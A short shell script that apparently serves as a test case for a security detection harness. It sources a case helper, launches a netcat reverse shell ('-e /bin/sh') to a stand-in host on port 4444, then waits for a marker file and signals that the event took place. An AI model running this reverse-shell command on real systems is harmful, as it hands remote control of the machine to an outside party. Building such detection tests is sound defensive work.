#!/bin/sh
. /opt/case/case.sh

nc 203.0.113.10 4444 -e /bin/sh &
wait_for /tmp/reached
took_place
